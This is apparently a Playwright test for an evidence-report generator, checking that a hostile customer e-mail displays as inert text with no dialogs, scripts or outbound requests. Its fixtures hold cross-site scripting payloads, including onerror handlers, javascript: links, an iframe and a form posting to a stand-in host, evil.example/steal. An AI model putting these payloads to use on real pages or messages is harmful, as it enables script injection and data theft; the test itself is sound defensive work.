"""A hostile e-mail renders inert in a real browser: no dialog, no script, no request leaves."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page, Request, expect

from evidence.bundle import write_bundle
from evidence.bundle.example import example_artifacts, example_case, example_context, fixed_clock
from evidence.models import Message, MessageSource, Role

HOSTILE_TEXT = (
    "<script>window.__pwned = 'text'; alert('text')</script>"
    '<img src="https://evil.example/track.png" onerror="alert(\'img\')">'
    "<a href=\"javascript:alert('link')\">Refund me now</a>"
)
HOSTILE_HTML = (
    "<p>Visible part of the HTML-only message</p>"
    "<script>window.__pwned = 'html'</script>"
    '<img src="https://evil.example/pixel.gif" onerror="alert(\'html-img\')">'
    '<a id="jslink" href="javascript:alert(\'html-link\')">click me</a>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<div style="background:url(https://evil.example/bg.png)" onmouseover="alert(1)">hover text</div>'
    '<form action="https://evil.example/steal"><input name="q"></form>'
)


@pytest.fixture
def report(tmp_path: Path) -> Path:
    case = example_case(customer_body=HOSTILE_TEXT)
    html_only = Message(
        message_id="msg-004@relay.walmart.com", source=MessageSource.MAILBOX,
        sent_at=case.threads[0].messages[-1].sent_at,
        sender="0f1e2d3c4b5a69788796a5b4c3d2e1f0@relay.walmart.com", role=Role.CUSTOMER, subject="<b>html</b> only",
        body_text="", body_html=HOSTILE_HTML,
    )  # fmt: skip
    thread = case.threads[0].model_copy(update={"messages": [*case.threads[0].messages, html_only]})
    case = case.model_copy(update={"threads": [thread]})
    ref = write_bundle(tmp_path, case, example_artifacts(), example_context(), clock=fixed_clock)
    return ref.path / "report.html"


def test_hostile_email_bodies_render_inert_and_readable(page: Page, report: Path) -> None:
    dialogs: list[str] = []
    outbound: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    def on_request(request: Request) -> None:
        if not request.url.startswith(("file:", "data:")):
            outbound.append(request.url)

    page.on("request", on_request)
    page.goto(report.as_uri())

    expect(page.get_by_role("heading", name="Refund evidence: PO 4342076435326")).to_be_visible()
    # The hostile markup is shown as text, so the reviewer sees exactly what the customer sent.
    expect(page.get_by_text("<script>window.__pwned = 'text'", exact=False)).to_be_visible()
    expect(page.get_by_text("Visible part of the HTML-only message")).to_be_visible()
    page.get_by_text("hover text").hover()
    page.get_by_text("click me").click()

    assert page.evaluate("() => window.__pwned === undefined")
    assert page.locator("main script, main iframe, main form, main img[onerror]").count() == 0
    assert dialogs == []
    assert outbound == []
    # The inline stylesheet is allowed by its CSP hash (the page would be unstyled otherwise).
    background = page.evaluate("() => getComputedStyle(document.body).backgroundColor")
    assert background == "rgb(244, 245, 247)"
